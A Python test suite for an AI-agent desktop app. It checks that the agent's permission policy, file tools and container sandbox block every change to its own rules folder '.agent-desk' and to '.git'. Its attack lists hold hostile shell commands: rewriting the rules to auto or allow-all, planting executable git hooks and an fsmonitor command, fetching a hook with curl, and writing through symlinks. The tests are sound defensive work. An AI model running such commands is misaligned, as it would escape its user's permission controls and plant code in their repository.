"""The control folders (`.agent-desk`, `.git`) out of the agent's reach: the container mounts them
read-only (the guarantee), the policy denies a change to them in every mode (the early, clear refusal), the
file tools and LocalSandbox refuse to write them, and a linked control folder stops the sandbox from
starting. Each attack ends with the host's files compared byte for byte."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from desktop_app.core import (
    Action,
    EventBus,
    Executor,
    HookChain,
    MemoryStore,
    PermissionPolicy,
    Rule,
    RuleSet,
    RunContext,
    SandboxError,
    ToolCall,
    ToolCallState,
    ToolContext,
    ToolFacts,
    ToolRegistry,
    control_dir,
)
from desktop_app.tools import FsEdit, FsWrite, builtin_tools
from tests.conftest import SANDBOX_UID, TEST_IMAGE

RULES = b'[permissions]\nmode = "ask"\ndeny = ["bash_run(curl *)"]\n'
CONFIG_EXTRA = b"[user]\n\tname = owner\n"
BASH = ToolFacts("bash_run", "group:runtime", False)
WRITE = ToolFacts("fs_write", "group:fs", False)
EDIT = ToolFacts("fs_edit", "group:fs", False)
MULTI = ToolFacts("fs_multi_edit", "group:fs", False)
READ = ToolFacts("fs_read", "group:fs", True)


def _policy(mode: str, allow: tuple[str, ...] = ()) -> PermissionPolicy:
    return PermissionPolicy(mode, RuleSet([Rule.parse(t, "allow", "test") for t in allow]))


EVERY_POLICY = [
    pytest.param(_policy("ask", ("bash_run(ls *)", "bash_run(cp *)", "fs_write(**)")), id="ask+rules"),
    pytest.param(_policy("accept-edits"), id="accept-edits"),
    pytest.param(_policy("auto"), id="auto"),
    pytest.param(_policy("auto", ("*",)), id="auto+allow-all"),
    pytest.param(_policy("ask", ("bash_run", "group:fs")), id="ask+allow-tools"),
]


def _project(tmp: Path, *, git: bool = True) -> Path:
    """A project folder owned by the sandbox's user, with a rules file and (optionally) a git repository."""
    ws = tmp / "proj"
    (ws / ".agent-desk").mkdir(parents=True)
    (ws / ".agent-desk" / "rules.toml").write_bytes(RULES)
    (ws / "src").mkdir()
    (ws / "src" / "main.py").write_text("print('hi')\n")
    if git:
        subprocess.run(["git", "init", "-q", str(ws)], check=True)
        with open(ws / ".git" / "config", "ab") as fh:
            fh.write(CONFIG_EXTRA)
    if os.geteuid() == 0:
        for root, dirs, files in os.walk(ws):
            for name in [".", *dirs, *files]:
                os.lchown(os.path.join(root, name), SANDBOX_UID, SANDBOX_UID)
    return ws


def _snapshot(ws: Path) -> dict[str, bytes | str]:
    """Every file and link under the control folders, and the project's top level, as they are on the host."""
    out: dict[str, bytes | str] = {}
    for top in (".agent-desk", ".git"):
        base = ws / top
        if not base.exists():
            continue
        for root, dirs, files in os.walk(base):
            for name in dirs + files:
                p = Path(root) / name
                rel = str(p.relative_to(ws))
                out[rel] = f"-> {os.readlink(p)}" if p.is_symlink() else (b"" if p.is_dir() else p.read_bytes())
    out["<top>"] = " ".join(sorted(os.listdir(ws)))
    return out


# -- the policy: denied in every mode, over every rule -----------------------------------------------------
DENIED_COMMANDS = [
    "ls -la > .agent-desk/rules.toml",
    "ls >> .agent-desk/rules.toml",
    "echo 'mode = \"auto\"' > ./.agent-desk/rules.toml",
    "echo x > .agent-desk//rules.toml",
    "echo x > //workspace/.agent-desk/rules.toml",
    "echo x > /workspace/.agent-desk/rules.toml",
    "echo x > src/../.agent-desk/rules.toml",
    "echo x > .AGENT-DESK/rules.toml",
    "echo x > .Agent-Desk./rules.toml",
    "echo x > .git/config",
    "echo x > .GIT/config",
    "printf '#!/bin/sh\\nid\\n' > .git/hooks/pre-commit",
    "cp /tmp/x .agent-desk/rules.toml",
    "cp -t .agent-desk /tmp/rules.toml",
    "cp /tmp/x .agent-d*/rules.toml",
    "cp /tmp/x {src,.agent-desk}/rules.toml",
    "mv /tmp/x .agent-desk/rules.toml",
    "mv .agent-desk x",
    "mv .agent-desk/rules.toml /tmp/",
    "tee .agent-desk/rules.toml < /dev/null",
    "echo x | tee -a .git/hooks/post-checkout",
    "sed -i s/ask/auto/ .agent-desk/rules.toml",
    "sed -i.bak -e s/ask/auto/ .agent-desk/rules.toml",
    "perl -pi -e s/ask/auto/ .agent-desk/rules.toml",
    "python3 -c \"open('.agent-desk/rules.toml', 'w').write('x')\"",
    "python3 -c \"import os; os.chdir('.git'); open('config', 'a')\"",
    "node -e \"require('fs').writeFileSync('.git/hooks/pre-commit', 'x')\"",
    "awk 'BEGIN { print \"x\" > \".agent-desk/rules.toml\" }'",
    "ln -sf ../.agent-desk/rules.toml src/cfg",
    "ln -s /workspace/.git/hooks hooks",
    "ln -sf /tmp/evil .git/hooks/pre-commit",
    "cp -s ../.git/config src/c",
    "rm -rf .agent-desk",
    "rm -rf ./.agent-desk/",
    "rm .agent-desk/rules.toml",
    "rm -rf .*",
    "unlink .git/index",
    "touch .git/hooks/pre-push",
    "chmod +x .git/hooks/pre-commit",
    "truncate -s0 .agent-desk/rules.toml",
    "dd if=/dev/zero of=.git/config count=1",
    "cd .agent-desk && echo x > rules.toml",
    "cd .git && cp /tmp/x config",
    "bash -c 'echo x > .agent-desk/rules.toml'",
    "sh -c \"cd .git/hooks; touch pre-commit\"",
    "find . -name x -exec rm .git/config \\;",
    "true && echo x > .agent-desk/rules.toml",
    "echo $(echo x > .git/config)",
    "time -o .agent-desk/rules.toml ls",
    "sort -o .agent-desk/rules.toml x",
    "curl -o .git/hooks/pre-commit http://e/x",
    "echo x > '.git::$INDEX_ALLOCATION/config'",
    "echo x > .agent-desk/$NAME",
    "cp /tmp/x \".git/hooks/${HOOK}\"",
]


@pytest.mark.parametrize("command", DENIED_COMMANDS)
@pytest.mark.parametrize("policy", EVERY_POLICY)
def test_a_command_that_changes_a_control_folder_is_denied_in_every_mode(policy, command):
    d = policy.evaluate(BASH, {"command": command})
    assert d.action is Action.DENY, (command, d.reason)
    assert "control folder" in d.reason or "may read it but never change it" in d.reason
    assert d.provenance.detail == "control folder"


@pytest.mark.parametrize("path", [
    ".agent-desk/rules.toml", "./.agent-desk/rules.toml", ".agent-desk//rules.toml", "//workspace/.agent-desk/x",
    "/workspace/.agent-desk/rules.toml", "src/../.agent-desk/rules.toml", ".AGENT-DESK/rules.toml",
    ".agent-desk.", ".agent-desk/new/deep.toml", ".git/config", ".git/hooks/pre-commit", ".Git/HOOKS/x",
    ".git/info/attributes", ".git/HEAD", ".git. /config", "GIT~1/config", "AGENT-~1/rules.toml",
])
@pytest.mark.parametrize("policy", EVERY_POLICY)
def test_a_file_tool_write_into_a_control_folder_is_denied_in_every_mode(policy, path):
    for facts, input in ((WRITE, {"path": path, "content": "x"}),
                         (EDIT, {"path": path, "old_string": "a", "new_string": "b"}),
                         (MULTI, {"edits": [{"path": "src/ok.py", "old_string": "a", "new_string": "b"},
                                            {"path": path, "old_string": "a", "new_string": "b"}]})):
        d = policy.evaluate(facts, input)
        assert d.action is Action.DENY, (facts.name, path, d.reason)


@pytest.mark.parametrize("policy", EVERY_POLICY)
def test_a_resolved_path_into_a_control_folder_is_denied(policy):
    """`src/cfg -> ../.agent-desk/rules.toml`, shipped by a cloned repository: judged as resolved."""
    resolved = {"src/cfg": "/workspace/.agent-desk/rules.toml"}
    assert policy.paths_to_resolve(BASH, {"command": "cp x src/cfg"}) == ["src/cfg"]
    for facts, input in ((WRITE, {"path": "src/cfg", "content": "x"}), (BASH, {"command": "echo x > src/cfg"}),
                         (BASH, {"command": "cp /tmp/x src/cfg"}), (BASH, {"command": "tee src/cfg"})):
        assert policy.evaluate(facts, input, resolved=resolved).action is Action.DENY, input
    hooks = {"h/pre-commit": "/workspace/.git/hooks/pre-commit"}
    assert policy.evaluate(BASH, {"command": "mv x h/pre-commit"}, resolved=hooks).action is Action.DENY


@pytest.mark.parametrize("command", [
    "cat .agent-desk/rules.toml", "ls -la .git", "git status", "git log --oneline", "git diff",
    "cp .agent-desk/rules.toml /tmp/r", "grep -r x .git", "echo x > .gitignore", "echo x > src/.github",
    "sed s/a/b/ .agent-desk/rules.toml", "echo x > src/main.py", "git commit -m 'docs for .agent-desk'",
    "touch .github/workflows/x", "cp .git/config /tmp/c",
])
def test_reading_a_control_folder_and_near_names_are_not_denied(command):
    d = _policy("auto", ("*",)).evaluate(BASH, {"command": command})
    assert d.action is Action.ALLOW, (command, d.reason)
    assert _policy("auto").evaluate(READ, {"path": ".agent-desk/rules.toml"}).action is Action.ALLOW


@pytest.mark.parametrize("path", [".gitignore", ".github/x", "src/.git/config", "agent-desk/x", ".agent-desks/x",
                                  "x.git/config", "/workspace", ".", "~/.git/config", "a~1"])
def test_names_that_are_not_control_folders(path):
    assert control_dir(path) is None


# -- the container: read-only mounts, checked on the host ------------------------------------------------
KERNEL_ATTACKS = [
    "echo 'mode = \"auto\"' > .agent-desk/rules.toml",
    "ls -la >> /workspace/.agent-desk/rules.toml",
    "echo x > //workspace/./.agent-desk//rules.toml",
    "cp src/main.py .agent-desk/rules.toml",
    "mv src/main.py .agent-desk/rules.toml",
    "echo x | tee .agent-desk/rules.toml",
    "sed -i s/ask/auto/ .agent-desk/rules.toml",
    "python3 -c \"open('.agent-desk/rules.toml', 'w').write('allow = [\\\"*\\\"]')\"",
    "ln -sf /tmp/x .agent-desk/rules.toml",
    "ln -sf ../.agent-desk/rules.toml src/cfg2 && echo x > src/cfg2",
    "rm -rf .agent-desk",
    "rm -f .agent-desk/rules.toml",
    "mv .agent-desk moved",
    "mkdir .agent-desk/new",
    "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
    "git config core.fsmonitor 'touch /tmp/pwned'",
    "echo '[core] fsmonitor = x' >> .git/config",
    "echo x > .git/info/attributes",
    "rm -rf .git",
    "mv .git g",
    "echo x > src/cfg",  # the shipped link, written through
]


async def _run_attacks(sb: Any, ws: Path) -> list[str]:
    """Each attack run straight in the container (no policy): what changed on the host afterwards."""
    before = _snapshot(ws)
    changed = []
    for command in KERNEL_ATTACKS:
        await sb.exec(command)
        after = _snapshot(ws)
        if {k: v for k, v in after.items() if k.startswith(".git/") and k.split("/")[1] not in
                ("config", "hooks", "info")} != {k: v for k, v in before.items() if k.startswith(".git/")
                                                   and k.split("/")[1] not in ("config", "hooks", "info")}:
            changed.append(f"{command}: .git contents")
        for key in set(before) | set(after):
            if key.startswith(".agent-desk") or key.startswith((".git/config", ".git/hooks", ".git/info")):
                if before.get(key) != after.get(key):
                    changed.append(f"{command}: {key}")
    return changed


async def test_the_kernel_keeps_the_control_files_whatever_runs(make_docker_sandbox, tmp_path):
    from desktop_app.sandbox import SandboxConfig

    ws = _project(tmp_path)
    os.symlink("../.agent-desk/rules.toml", ws / "src" / "cfg")
    os.lchown(ws / "src" / "cfg", SANDBOX_UID, SANDBOX_UID) if os.geteuid() == 0 else None
    # the retired "let the agent commit" changes nothing in the sandbox: .git stays read-only
    sb = await make_docker_sandbox(SandboxConfig.from_settings({"git_writable": True}, image=TEST_IMAGE), folder=ws)
    changed = await _run_attacks(sb, ws)
    assert changed == []
    assert (ws / ".agent-desk" / "rules.toml").read_bytes() == RULES
    assert (ws / ".git" / "config").read_bytes().endswith(CONFIG_EXTRA)
    assert not (ws / "moved").exists() and not (ws / "g").exists()
    assert not any("git" in r for r in sb.describe().relaxations)
    commit = "git add src && git -c user.email=a@b -c user.name=a commit -qm agent"
    denied = await sb.exec(commit)
    assert denied.exit_code != 0 and "Read-only file system" in denied.stderr


@pytest.mark.parametrize("which", [".agent-desk", ".git"])
@pytest.mark.parametrize("kind", ["docker", "local"])
async def test_a_linked_control_folder_stops_the_sandbox(make_docker_sandbox, tmp_path, which, kind):
    from desktop_app.sandbox import LocalSandbox, SandboxConfig

    ws = _project(tmp_path, git=False)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    if which == ".agent-desk":
        (ws / ".agent-desk" / "rules.toml").unlink()
        (ws / ".agent-desk").rmdir()
    os.symlink(elsewhere, ws / which)
    with pytest.raises(SandboxError, match="symbolic link") as err:
        if kind == "local":
            LocalSandbox(ws)
        else:
            await make_docker_sandbox(SandboxConfig(image=TEST_IMAGE), folder=ws)
    assert err.value.hint
    assert os.listdir(elsewhere) == []


async def test_the_desk_makes_agent_desk_before_the_container_and_mounts_a_new_git(make_docker_sandbox, tmp_path):
    """`.agent-desk` is made on the host first. `.git` is never made; one that appears (`git init` by the agent)
    is writable until the next start, which makes the container anew with `.git` read-only."""
    from desktop_app.sandbox import SandboxConfig

    ws = tmp_path / "fresh"
    ws.mkdir()
    os.chown(ws, SANDBOX_UID, SANDBOX_UID) if os.geteuid() == 0 else None
    sb = await make_docker_sandbox(SandboxConfig(image=TEST_IMAGE), folder=ws)
    assert (ws / ".agent-desk").is_dir() and not (ws / ".git").exists()
    init = await sb.exec("git init -q . && touch .git/hooks/pre-commit && echo made")
    assert init.stdout.strip() == "made"  # the gap: no .git to mount when the container was made
    await sb.close()
    again = await make_docker_sandbox(SandboxConfig(image=TEST_IMAGE), folder=ws)
    assert again.container_id != sb.container_id
    blocked = await again.exec("echo x > .git/hooks/pre-commit")
    assert blocked.exit_code != 0 and "Read-only file system" in blocked.stderr


# -- the three routes of the issue, through the real executor and tools --------------------------------------
def _engine(sandbox: Any, policy: PermissionPolicy) -> tuple[Executor, RunContext]:
    store = MemoryStore()
    executor = Executor(ToolRegistry(builtin_tools()), policy, bus=EventBus(store), store=store, hooks=HookChain())
    return executor, RunContext(session_id="s1", project_id="p1", sandbox=sandbox)


@pytest.mark.parametrize("kind", ["docker", "local"])
async def test_the_three_routes_of_the_issue_are_refused(make_docker_sandbox, tmp_path, kind):
    from desktop_app.sandbox import LocalSandbox, SandboxConfig

    ws = _project(tmp_path)
    os.symlink("../.agent-desk/rules.toml", ws / "src" / "cfg")
    before = _snapshot(ws)
    sb = LocalSandbox(ws) if kind == "local" else await make_docker_sandbox(SandboxConfig(image=TEST_IMAGE),
                                                                            folder=ws)
    routes = [
        ("accept-edits", ToolCall(id="a", name="fs_write",
                                  input={"path": ".agent-desk/rules.toml", "content": 'mode = "auto"\n'})),
        ("ask", ToolCall(id="b", name="bash_run", input={"command": "ls -la > .agent-desk/rules.toml"})),
        ("auto", ToolCall(id="c", name="bash_run", input={"command": "ls -la > .agent-desk/rules.toml"})),
        ("accept-edits", ToolCall(id="d", name="fs_write", input={"path": "src/cfg", "content": "allow = ['*']\n"})),
        ("auto", ToolCall(id="e", name="bash_run", input={"command": "echo x > src/cfg"})),
    ]
    try:
        for mode, tc in routes:
            executor, run = _engine(sb, _policy(mode, ("bash_run(ls *)",)))
            (rec,) = await executor.run_batch([tc], run)
            assert rec.state is ToolCallState.DENIED, (mode, tc.input, rec.state)
            assert ".agent-desk/" in (rec.error or "") or ".agent-desk/" in str(rec.result), rec.error
    finally:
        if kind == "local":
            await sb.close()
    assert _snapshot(ws) == before


@pytest.mark.parametrize("kind", ["docker", "local"])
async def test_the_file_tools_refuse_control_paths_without_the_policy(make_docker_sandbox, tmp_path, kind):
    """Called straight (no policy in front), in every spelling and through the shipped link."""
    from desktop_app.sandbox import LocalSandbox, SandboxConfig

    ws = _project(tmp_path)
    os.symlink("../.agent-desk/rules.toml", ws / "src" / "cfg")
    os.symlink("../.git/hooks", ws / "src" / "hooks")
    before = _snapshot(ws)
    sb = LocalSandbox(ws) if kind == "local" else await make_docker_sandbox(SandboxConfig(image=TEST_IMAGE),
                                                                            folder=ws)
    ctx = ToolContext(call_id="t", session_id="s1", sandbox=sb)
    try:
        for path in [".agent-desk/rules.toml", "./.agent-desk/new.toml", "/workspace/.agent-desk//rules.toml",
                     ".git/config", ".git/hooks/pre-commit", "src/cfg", "src/hooks/pre-commit", ".AGENT-DESK/x"]:
            res = await FsWrite().run(FsWrite.input_model(path=path, content="x"), ctx)
            assert res.is_error and "never change it" in res.content[0].text, (path, res.content)
            res = await FsEdit().run(FsEdit.input_model(path=path, old_string="ask", new_string="auto"), ctx)
            assert res.is_error and "never change it" in res.content[0].text, (path, res.content)
        if kind == "local":  # no mount there: the sandbox itself refuses
            with pytest.raises(SandboxError, match="never change it"):
                await sb.write_file("src/cfg", b"x")
        read = await sb.read_file(".agent-desk/rules.toml")
        assert read == RULES  # reads stay allowed
    finally:
        if kind == "local":
            await sb.close()
    assert _snapshot(ws) == before
